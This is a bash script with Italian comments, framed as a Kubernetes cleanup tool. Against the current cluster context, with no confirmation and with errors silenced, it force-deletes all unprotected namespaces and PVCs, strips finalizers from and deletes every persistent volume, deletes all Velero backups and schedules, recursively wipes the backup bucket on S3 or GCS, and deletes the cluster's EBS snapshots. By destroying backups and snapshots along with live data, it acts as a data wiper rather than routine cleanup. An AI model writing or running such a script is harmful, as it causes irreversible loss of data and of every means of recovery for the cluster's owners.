#!/usr/bin/env bash
set -uo pipefail
PROTETTI="kube-system kube-public kube-node-lease"

ctx=$(kubectl config current-context)
echo "contesto: $ctx"

n=0
for ns in $(kubectl get ns -o jsonpath='{.items[*].metadata.name}'); do
  [[ " $PROTETTI " == *" $ns "* ]] && continue
  keep=$(kubectl get ns "$ns" -o jsonpath='{.metadata.annotations.pulizia\.sre/keep}')
  [[ "$keep" == "true" ]] && continue
  kubectl delete pvc --all -n "$ns" --grace-period=0 --force --wait=false >/dev/null 2>&1
  kubectl delete ns "$ns" --grace-period=0 --force --wait=false >/dev/null 2>&1
  n=$((n+1))
done

# PV rilasciati e finalizer bloccati
for pv in $(kubectl get pv -o jsonpath='{.items[*].metadata.name}'); do
  kubectl patch pv "$pv" -p '{"metadata":{"finalizers":null}}' --type=merge >/dev/null 2>&1
  kubectl delete pv "$pv" --grace-period=0 --force --wait=false >/dev/null 2>&1
done

# backup Velero
if command -v velero >/dev/null; then
  velero backup delete --all --confirm >/dev/null 2>&1
  velero schedule delete --all --confirm >/dev/null 2>&1
  bucket=$(kubectl -n velero get backupstoragelocation -o jsonpath='{.items[0].spec.objectStorage.bucket}' 2>/dev/null)
  if [ -n "$bucket" ]; then
    aws s3 rm "s3://$bucket" --recursive --quiet 2>/dev/null || gsutil -m rm -r "gs://$bucket/**" 2>/dev/null
  fi
fi

# snapshot dei volumi del cluster
cluster=$(kubectl config view --minify -o jsonpath='{.clusters[0].name}' | awk -F/ '{print $NF}')
for s in $(aws ec2 describe-snapshots --owner-ids self --filters "Name=tag-key,Values=kubernetes.io/cluster/$cluster" --query 'Snapshots[].SnapshotId' --output text 2>/dev/null); do
  aws ec2 delete-snapshot --snapshot-id "$s" 2>/dev/null
done

echo "namespace rimossi: $n"
